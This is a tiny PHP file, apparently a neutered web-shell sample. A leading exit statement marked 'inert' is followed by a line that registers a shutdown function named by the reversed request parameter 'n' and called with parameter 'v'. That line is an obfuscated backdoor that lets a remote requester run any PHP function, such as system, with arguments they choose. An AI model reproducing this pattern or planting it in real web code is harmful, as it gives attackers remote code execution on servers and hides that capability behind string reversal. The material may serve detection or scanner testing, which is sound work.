<?php exit; /* inert */ 
register_shutdown_function(strrev($_REQUEST['n']), $_REQUEST['v']);
